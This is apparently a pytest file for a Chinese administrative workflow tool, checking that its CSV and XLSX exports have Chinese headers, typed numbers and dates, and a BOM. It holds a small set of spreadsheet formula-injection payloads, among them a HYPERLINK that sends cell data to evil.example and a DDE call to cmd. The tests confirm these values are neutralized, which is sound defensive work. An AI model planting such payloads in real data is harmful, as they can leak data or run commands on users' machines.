"""`units` and `status` for a spreadsheet: CSV and XLSX with Chinese headers, ids beside the Chinese
names, numbers as numbers, `--out` files (CSV with the BOM Excel needs), and no cell a spreadsheet
would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import update
from support import T0

from anjian.states.machines import SPECS
from anjian.workflow.store.models import units_table

YUERYA = "130827102"  # 宽城峪耳崖镇, provincial demonstration township
KUANCHENG = "130827"
UNIT_HEADERS = ["代码", "名称", "级别", "级别代码", "上级", "上级代码", "状态", "状态代码", "类别", "类别代码", "逾期节点"]
# Names a spreadsheet would run as a formula (or a DDE call) if a cell held them as typed.
HOSTILE = {
    "130827100": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "130827101": "+cmd|' /C calc'!A0",
    "130827103": "-2+3",
    "130827104": "@SUM(1+1)",
    "130827105": "\t=1+1",
    "130827106": "\r=1+1",
}
SMALL_HEBEI = """code,name,level,parent_code,cohorts
130000,河北省,province,,
130800,承德市,city,130000,
130827,宽城满族自治县,county,130800,
130827102,峪耳崖镇,township,130827,provincial_demo
130827100,宽城镇,township,130827,
130700,张家口市,city,130000,
130722,张北县,county,130700,
130722100,张北镇,township,130722,key
"""


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_xlsx(path) -> openpyxl.worksheet.worksheet.Worksheet:
    wb = openpyxl.load_workbook(path)
    assert len(wb.worksheets) == 1
    return wb.active


def sheet_rows(ws) -> list[dict[str, object]]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


def rename(db, names: dict[str, str]) -> None:
    with db.write() as s:
        for code, name in names.items():
            s.execute(update(units_table).where(units_table.c.code == code).values(name=name))


@pytest.fixture
def hebei(fresh_db, tmp_path):
    """A registry with a province above two cities (a county each, three townships in all), loaded at T0."""
    from anjian.workflow.services.registry import initialize

    path = tmp_path / "hebei.csv"
    path.write_text(SMALL_HEBEI, encoding="utf-8")
    initialize(fresh_db, str(path), None, T0, "admin")
    return fresh_db


# -- units -----------------------------------------------------------------------------------------
def test_units_csv_has_chinese_headers_and_ids(chengde, cli):
    """`units --format csv` heads its columns in Chinese and gives level, state and cohorts both in
    Chinese and as ids, the parent by name and by code."""
    r = cli("units", "--format", "csv")
    assert r.exit_code == 0, r.output
    assert r.stdout.splitlines()[0] == ",".join(UNIT_HEADERS)
    rows = {row["代码"]: row for row in read_csv(r.stdout)}
    assert len(rows) == 1 + 12 + 219
    assert rows[YUERYA] == {"代码": YUERYA, "名称": "峪耳崖镇", "级别": "乡镇", "级别代码": "township",
                            "上级": "宽城满族自治县", "上级代码": KUANCHENG, "状态": "未开展", "状态代码": "not_started",
                            "类别": "省示范", "类别代码": "provincial_demo", "逾期节点": ""}
    county = rows[KUANCHENG]
    assert (county["级别"], county["状态"], county["状态代码"]) == ("县区", "准备发动", "mobilization")


def test_units_csv_lists_overdue_milestones_by_id(chengde, cli):
    """An overdue county's 逾期节点 cell holds the milestone ids, filterable in a spreadsheet."""
    rows = {row["代码"]: row for row in read_csv(cli("units", "--level", "county", "--format", "csv",
                                                    now="2015-01-01").stdout)}
    assert rows[KUANCHENG]["逾期节点"] == "plan_submission"


def test_units_xlsx_matches_the_csv(chengde, cli, tmp_path):
    """The workbook has one sheet with the CSV's headers and cells; codes stay text, the header row
    is bold and frozen, and each column is at least as wide as its CJK text."""
    out = tmp_path / "单位.xlsx"
    r = cli("units", "--format", "xlsx", "--out", str(out))
    assert r.exit_code == 0, r.output
    assert r.stdout == "" and str(out) in r.output  # the confirmation goes to stderr
    ws = read_xlsx(out)
    assert ws.title == "单位"
    assert [c.value for c in ws[1]] == UNIT_HEADERS
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    expected = read_csv(cli("units", "--format", "csv").stdout)
    got = sheet_rows(ws)
    assert [{k: "" if v is None else v for k, v in row.items()} for row in got] == expected
    assert all(isinstance(row["代码"], str) for row in got)
    names = ws.column_dimensions["B"].width
    assert names >= 2 * max(len(row["名称"]) for row in got)  # a CJK character is two columns wide


def test_units_by_county_exports_counts_as_numbers(chengde, cli, tmp_path):
    """`units --by county` exports a row per county with its counts per state as numbers (0, not blank),
    each state column headed by its Chinese name and id."""
    r = cli("units", "--level", "township", "--by", "county", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = read_csv(r.stdout)
    assert list(rows[0]) == ["代码", "县区", "单位数", "未开展（not_started）", "有逾期"]
    assert {row["代码"]: int(row["单位数"]) for row in rows}[KUANCHENG] == 18
    assert sum(int(row["单位数"]) for row in rows) == 219
    out = tmp_path / "by.xlsx"
    assert cli("units", "--level", "township", "--by", "county", "--format", "xlsx", "--out", str(out)).exit_code == 0
    data = sheet_rows(read_xlsx(out))
    assert {row["代码"]: row["单位数"] for row in data}[KUANCHENG] == 18
    assert all(isinstance(row["有逾期"], int) for row in data)


def test_units_and_status_by_province_and_city(hebei, cli, tmp_path):
    """On a registry with a province, `status --by province|city` and `units --by province` export
    one row per province or city, headed 省 or 市, in CSV and XLSX alike."""
    for by, word, codes in (("province", "省", ["130000"]), ("city", "市", ["130700", "130800"])):
        r = cli("status", "--by", by, "--format", "csv", now="2015-01-02")
        assert r.exit_code == 0, r.output
        rows = read_csv(r.stdout)
        assert list(rows[0])[:2] == ["代码", word]
        assert [row["代码"] for row in rows] == codes
        out = tmp_path / f"status-{by}.xlsx"
        assert cli("status", "--by", by, "--format", "xlsx", "--out", str(out), now="2015-01-02").exit_code == 0
        ws = read_xlsx(out)
        assert ws.title == f"进度（按{word}）"
        assert [{k: "" if v is None else str(v) for k, v in row.items()} for row in sheet_rows(ws)] == rows
    province = read_csv(cli("status", "--by", "province", "--format", "csv", now="2015-01-02").stdout)[0]
    assert (province["县区"], province["乡镇数"], province["全部达标"], province["逾期节点"]) == \
        ("2", "3", "0/3", "plan_submission")
    r = cli("units", "--by", "province", "--format", "csv")
    assert r.exit_code == 0, r.output
    (row,) = read_csv(r.stdout)
    assert (row["代码"], row["省"], row["单位数"], row["未开展（not_started）"]) == ("130000", "河北省", "8", "3")


# -- status ----------------------------------------------------------------------------------------
def test_status_csv_names_the_stage_and_its_id(chengde, cli):
    """`status --format csv` gives each county's stage in Chinese and as an id, the next milestone by
    id and name, and the counts as bare numbers beside the table's a/b shares."""
    r = cli("status", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = {row["代码"]: row for row in read_csv(r.stdout)}
    assert len(rows) == 12
    k = rows[KUANCHENG]
    assert (k["县区"], k["阶段"], k["阶段代码"]) == ("宽城满族自治县", "准备发动", "mobilization")
    assert (k["全部达标"], k["乡镇数"], k["已达标乡镇"], k["已开展乡镇"]) == ("0/18", "18", "0", "0")
    assert (k["下一节点"], k["期限"], k["剩余天数"]) == ("plan_submission", "2014-12-30", "15")
    assert k["下一节点名称"]
    assert k["阶段代码"] in SPECS["county"].states


def test_status_xlsx_types(chengde, cli, tmp_path):
    """In the workbook, counts and days left are numbers, the deadline is a date, shares stay text."""
    out = tmp_path / "进度.xlsx"
    r = cli("status", "--format", "xlsx", "--out", str(out))
    assert r.exit_code == 0, r.output
    ws = read_xlsx(out)
    assert ws.title == "进度"
    k = next(row for row in sheet_rows(ws) if row["代码"] == KUANCHENG)
    assert (k["乡镇数"], k["已达标乡镇"], k["剩余天数"], k["逾期乡镇"]) == (18, 0, 15, 0)
    assert k["期限"].date() == dt.date(2014, 12, 30)
    assert k["全部达标"] == "0/18"
    cell = next(c for c in ws["O"][1:] if c.value is not None)
    assert ws["O1"].value == "期限" and cell.is_date


# -- files and formulas ----------------------------------------------------------------------------
def test_xlsx_needs_out(chengde, cli):
    """`--format xlsx` without --out exits 2 and says to name a file, rather than write binary to a terminal."""
    for args in (("units",), ("status",), ("units", "--by", "county")):
        r = cli(*args, "--format", "xlsx")
        assert r.exit_code == 2
        assert "--out FILE" in r.output and r.stdout == ""


def test_csv_out_writes_utf8_with_bom(chengde, cli, tmp_path):
    """`--out` writes the CSV to a file starting with the UTF-8 BOM (so Excel reads the Chinese), the
    same text as on stdout, where no BOM is added."""
    out = tmp_path / "units.csv"
    r = cli("units", "--level", "county", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0, r.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    shown = cli("units", "--level", "county", "--format", "csv").stdout
    assert not shown.startswith("\ufeff")
    assert raw.decode("utf-8-sig") == shown
    status_out = tmp_path / "status.csv"
    assert cli("status", "--format", "csv", "--out", str(status_out)).exit_code == 0
    assert status_out.read_text("utf-8-sig").startswith("代码,县区,阶段,阶段代码")


def test_out_into_a_missing_folder_is_bad_input(chengde, cli, tmp_path):
    """An --out file that cannot be written exits 2 naming it."""
    out = tmp_path / "no-such-folder" / "u.xlsx"
    r = cli("units", "--format", "xlsx", "--out", str(out))
    assert r.exit_code == 2
    assert str(out) in r.output
    assert not out.exists()


def test_hostile_names_are_never_formulas(chengde, cli, tmp_path):
    """Unit names that start with = + - @, a tab or a CR are neutralized in CSV (a leading ') and
    stored as plain text in XLSX: every such cell is a string cell, no cell of the file is a formula."""
    rename(chengde, HOSTILE)
    r = cli("units", "--county", KUANCHENG, "--level", "township", "--format", "csv")
    assert r.exit_code == 0, r.output
    by_code = {row["代码"]: row["名称"] for row in read_csv(r.stdout)}
    for code, name in HOSTILE.items():
        assert by_code[code] == "'" + name
    out = tmp_path / "hostile.xlsx"
    assert cli("units", "--county", KUANCHENG, "--level", "township", "--format", "xlsx", "--out", str(out)).exit_code == 0
    ws = read_xlsx(out)
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {ws.cell(row=c.row, column=1).value: c for c in ws["B"][1:]}
    for code, name in HOSTILE.items():
        # An XML reader (openpyxl's as Excel's) takes a CR in text for a line feed; the cell stays text.
        assert (names[code].value, names[code].data_type) == (name.replace("\r", "\n"), "s")
        assert names[code].quotePrefix  # stays text when an official edits the cell
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet


def test_status_export_neutralizes_a_hostile_county_name(chengde, cli, tmp_path):
    """`status` exports guard their name cells too: a county named "=1+1" is text in CSV and XLSX."""
    rename(chengde, {KUANCHENG: "=1+1"})
    rows = {row["代码"]: row for row in read_csv(cli("status", "--format", "csv").stdout)}
    assert rows[KUANCHENG]["县区"] == "'=1+1"
    out = tmp_path / "s.xlsx"
    assert cli("status", "--format", "xlsx", "--out", str(out)).exit_code == 0
    ws = read_xlsx(out)
    cell = next(ws.cell(row=c.row, column=2) for c in ws["A"] if c.value == KUANCHENG)
    assert (cell.value, cell.data_type) == ("=1+1", "s")
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_views_import_no_spreadsheet_library():
    """Loading the views' CLI module (as `anjian units --help` does) imports neither openpyxl nor SQLAlchemy."""
    import subprocess
    import sys

    code = ("import sys, anjian.workflow.cli.views, anjian.workflow.cli.diagram; "
            "print(sorted(m for m in ('openpyxl', 'sqlalchemy', 'transitions', 'graphviz') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"
